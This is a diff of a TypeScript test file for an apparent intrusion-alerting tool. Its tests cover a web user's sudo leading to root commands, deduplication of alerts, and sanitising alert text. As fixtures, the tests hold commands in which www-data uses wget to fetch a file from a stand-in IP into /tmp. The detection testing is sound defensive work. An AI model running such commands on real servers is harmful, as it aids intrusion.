@@ -171,12 +171,50 @@ test.for([
   expect(lines.every((line) => line.indexOf("\n") === line.length - 1)).toBe(true);
   expect(rows).toHaveLength(2);
   expect(alerts.map(({ atIndex }) => atIndex)).toEqual([0, 1]);
-  expect(JSON.stringify(alerts)).not.toMatch(/\\n|user:root/);
+  expect(alerts[1]?.evidence).toMatch(/lies where a web server runs it$/);
+  for (const { key, subject, evidence } of alerts)
+    expect(`${key}${subject}${evidence}`).not.toMatch(/[\n\r]|user:root/);
 });
 
 const upgrade = ["openssl", "curl", "libc6"].flatMap((name) =>
   Array.from({ length: 100 }, (_, place) => wrote("root", `/opt/${name}/part-${place}.so`)),
 );
+
+const asked = {
+  kind: "command",
+  user: "www-data",
+  userId: "33",
+  words: ["sudo", "run-parts"],
+  processId: 700,
+} as const;
+const answered = {
+  kind: "command",
+  user: "root",
+  userId: "0",
+  program: "/bin/run-parts",
+  parentId: 700,
+} as const;
+
+test("a command of root is news when another program starts it", () => {
+  const words = ["run-parts", "--report", "/etc/cron.hourly"];
+
+  const [, alert] = alertsOn(rowsOf(asked, { ...answered, words }));
+
+  expect(alert?.evidence).toMatch(/^root has never run run-parts from sudo run-parts; 0 of [\d,]+ times: /);
+});
+
+test.for([
+  ["the same again", "web-1", "/tmp/a", 1],
+  ["the same on another host", "web-2", "/tmp/a", 2],
+  ["the same program with other words", "web-1", "/tmp/b", 2],
+] as const)("of two dangerous commands it takes %s as it should", ([, host, path, count]) => {
+  const rows = rowsOf(
+    ranBy("www-data", "33", "wget", "http://203.0.113.9/x", "-O", "/tmp/a"),
+    ranBy("www-data", "33", "wget", "http://203.0.113.9/x", "-O", path),
+  );
+
+  expect(alertsOn(rows.map((row, at) => (at === 0 ? row : { ...row, host })))).toHaveLength(count);
+});
 
 test("a burst that no log has shown is one alert", () => {
   expect(alertsOn(rowsOf(...upgrade))).toMatchObject([{ key: "user:root packages from unattended-upgrade" }]);
